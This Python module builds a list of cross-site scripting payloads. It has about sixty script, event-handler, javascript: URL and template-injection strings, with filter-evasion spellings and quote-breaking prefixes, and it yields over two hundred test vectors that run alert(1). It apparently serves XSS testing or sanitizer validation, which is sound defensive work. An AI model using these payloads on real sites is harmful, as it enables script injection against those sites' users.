"""Strings that are known to run scripts where text becomes markup: of every family, in many spellings."""

from __future__ import annotations

from itertools import product

RUN = "alert(1)"

TAGS = [
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script >{}</script >", "<script/x>{}</script>", "<scr<script>ipt>{}</scr</script>ipt>",
    "<script src=data:text/javascript,{}></script>", "<script\x0c>{}</script>", "<svg><script>{}</script></svg>",
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", '<img src=x onerror="{}">', "<IMG SRC=x ONERROR={}>", "<img/src=x/onerror={}>",
    "<img src=x\tonerror={}>", "<img src=x\nonerror={}>", "<img src='x'onerror={}>", "<img src=`x` onerror={}>", "<image src=x onerror={}>",
    "<svg onload={}>", "<svg/onload={}>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set onbegin={} attributeName=x>",
    "<svg><a xlink:href='javascript:{}'><text y=20>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg onload={}>'/></svg>",
    "<body onload={}>", "<body onpageshow={}>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>",
    "<details open ontoggle={}>", "<video src=x onerror={}>", "<video><source onerror={}>", "<audio src=x onerror={}>", "<marquee onstart={}>",
    "<iframe src='javascript:{}'>", "<iframe srcdoc='<script>{}</script>'>", "<iframe onload={}>", "<object data='javascript:{}'>",
    "<embed src='javascript:{}'>", "<a href='javascript:{}'>x</a>", "<a href=' javascript:{}'>x</a>", "<a href='java\tscript:{}'>x</a>",
    "<a href='JaVaScRiPt:{}'>x</a>", "<a href='&#106;avascript:{}'>x</a>", "<form action='javascript:{}'><button autofocus>x", "<math href='javascript:{}'>x</math>",
    "<base href='javascript:{}//'>", "<link rel=stylesheet href='javascript:{}'>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<style>@import 'javascript:{}';</style>", "<div style='background:url(javascript:{})'>", "<x onclick={} tabindex=1 autofocus onfocus={}>x",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>", "<title></title><img src=x onerror={}>",
    "<!--><img src=x onerror={}>-->", "<![CDATA[><img src=x onerror={}>]]>", "<textarea></textarea><img src=x onerror={}>",
    "javascript:{}", "data:text/html,<script>{}</script>", "javascript://%0a{}", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "{{% raw %}}<script>{}</script>",
]  # fmt: skip
"""Each with room for what runs."""

BEFORE = ["", '">', "'>", "</title>"]
"""What ends a quoted value or an element that a string may stand in."""


def vectors() -> list[str]:
    """At least two hundred, each another."""
    found = [before + tag.format(*[RUN] * tag.count("{}")) for before, tag in product(BEFORE, TAGS)]
    return list(dict.fromkeys(found))
